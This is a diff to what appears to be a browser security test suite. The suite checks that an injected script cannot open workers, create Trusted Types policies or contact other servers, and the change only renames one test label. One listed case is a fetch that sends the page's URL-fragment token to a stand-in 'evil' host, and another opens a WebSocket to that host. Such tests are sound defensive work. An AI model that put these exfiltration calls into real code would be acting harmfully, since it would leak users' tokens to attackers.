@@ -94,7 +94,7 @@ test.describe('an injected script', () => {
     ['a worker', () => new Worker(URL.createObjectURL(new Blob(['1'])))],
     ['another policy', () => self.trustedTypes?.createPolicy?.('evil', passAll)],
     ['a second default policy', () => self.trustedTypes?.createPolicy?.('default', passAll)],
-    ['telling another server', (evil) => fetch(`${evil}/?token=${location.hash}`)],
+    ['a request to another server', (evil) => fetch(`${evil}/?token=${location.hash}`)],
     [
       'a socket to another server',
       (evil) => untilClosed(new WebSocket(evil.replace('http', 'ws'))),
